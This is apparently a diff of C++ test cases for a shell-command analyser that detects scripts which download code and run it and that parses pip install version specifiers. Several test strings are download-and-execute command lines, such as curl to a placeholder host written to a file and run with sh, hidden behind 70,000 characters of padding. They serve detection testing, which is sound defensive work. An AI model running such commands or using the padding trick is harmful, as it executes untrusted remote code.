@@ -187,7 +187,7 @@ TEST_CASE("RUN: what xargs and descriptors bring is run") {
 }
 
 TEST_CASE("RUN: a fetcher behind a long text is one") {
-    CHECK(is_noticed("{ echo " + many("a", 70'000) + "; curl https://e.example/x; } > f; sh f"));
+    CHECK(has(names("curl https://e.example/x | cat - /dev/fd/3 3<&0 <<< " + many("a", 70'000) + " > f; sh f"), kPlace[0]));
     CHECK(has(names("{ echo " + many("a", 70'000) + "; curl https://e.example/x; } > f; sh f"), kPlace[0]));
     is_silent("{ echo " + many("a", 70'000) + "; curl https://e.example/x; } > f; sh g");
     for (const char* const part : {"cp -r /d /e; ", "sh /*.sh; ", "find / -exec sh {} \\; ", "X=$X$X; ", "read a b < f; ", "curl u://x | tee f | "}) {
@@ -197,7 +197,7 @@ TEST_CASE("RUN: a fetcher behind a long text is one") {
 }
 
 TEST_CASE("RUN: of a name with a computed version the name is known") {
-    for (const char* const script : {"pip install \"x==${V}\" -r requirements.txt", "pip install 'x'\"[a]>=$V\"", "V=$(cat v); pip install \"x==$V\"", "if a; then V=1; else V=2; fi; pip install x==$V", "uv pip install \"x==$(cat v)\""}) {
+    for (const char* const script : {"pip install \"x==${V}\" -r requirements.txt", "pip install 'x'\">=$V\"", "V=$(cat v); pip install \"x==$V\"", "if a; then V=1; else V=2; fi; pip install x==$V", "uv pip install \"x==$(cat v)\""}) {
         INFO(script);
         const Parsed parsed = run(script);
         CHECK(parsed.understood);
@@ -205,6 +205,7 @@ TEST_CASE("RUN: of a name with a computed version the name is known") {
         CHECK_FALSE(parsed.facts.requirements.at(0).dynamic);
         CHECK_FALSE(parsed.facts.requirements.at(0).pinned);
     }
+    CHECK_FALSE(is_noticed("pip install \"x[a,b]~=$V\""));
     // What may come to more words than one, or to another name.
     for (const char* const script : {"pip install x==$V", "pip install \"x$V\"", "pip install \"$V==1\"", "pip install \"x==$@\"", "pip install \"x==${a[@]}\"", "pip install \"x @ $V\"", "if a; then V=1; else V='1 y'; fi; pip install x==$V", "read V; pip install x==$V", "uvx \"x@$V\"",
                                      "IFS=2; if a; then V=12y; else V=1; fi; pip install x==$V"}) {
